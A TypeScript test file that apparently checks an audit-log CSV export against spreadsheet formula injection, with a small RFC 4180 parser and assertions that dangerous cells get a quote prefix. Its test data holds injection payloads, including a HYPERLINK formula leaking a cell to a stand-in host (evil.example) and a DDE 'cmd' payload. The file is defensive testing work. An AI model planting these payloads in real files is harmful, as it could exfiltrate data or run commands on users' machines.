import { createTestApp } from '../support/test-app';
import { bearer } from '../support/bearer';

/** RFC 4180 records of a CSV text: quoted fields may hold commas, doubled quotes and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i] as string;
    if (quoted && c === '"' && text[i + 1] === '"') {
      field += '"';
      i++;
    } else if (c === '"') {
      quoted = !quoted;
    } else if (!quoted && c === ',') {
      row.push(field);
      field = '';
    } else if (!quoted && c === '\r' && text[i + 1] === '\n') {
      rows.push([...row, field]);
      row = [];
      field = '';
      i++;
    } else {
      field += c;
    }
  }
  return rows;
}

describe('the CSV export is safe to open in a spreadsheet (OWASP CSV injection)', () => {
  it('a cell that would start a formula (= + - @ tab CR) is prefixed with a single quote and quoted; the hashed event is untouched', async () => {
    const h = await createTestApp();
    try {
      const subjects = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', 'plain-user'];
      for (const sub of subjects) {
        // A requester asking for the device list: refused, and the refusal audited with the caller's subject as actor.
        await h.api
          .get('/v1/devices')
          .set(bearer(await h.token(sub, ['requester'])))
          .expect(403);
      }
      const auditor = await h.token('dave', ['auditor']);
      const res = await h.api.get('/v1/audit/export?format=csv').set(bearer(auditor)).expect(200);
      const [header, ...rows] = parseCsv(res.text);
      const actor = (header as string[]).indexOf('actor');
      const event = (header as string[]).indexOf('event');
      const actors = rows.map((r) => r[actor]);
      expect(actors).toEqual(expect.arrayContaining([...subjects.slice(0, 6).map((s) => `'${s}`), 'plain-user']));
      // No cell of any row starts a formula.
      for (const r of rows) for (const cell of r) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
      // The raw text quotes each prefixed cell, so a reader that splits on commas still sees the quote first.
      expect(res.text).toContain(`,"'-2+3",`);
      // The event column is the event exactly as hashed: the subject in it is unchanged.
      const hashed = rows.map((r) => JSON.parse(r[event] as string) as { actor: { subject: string } });
      expect(hashed.map((e) => e.actor.subject)).toEqual(expect.arrayContaining(subjects));
    } finally {
      await h.close();
    }
  });
});
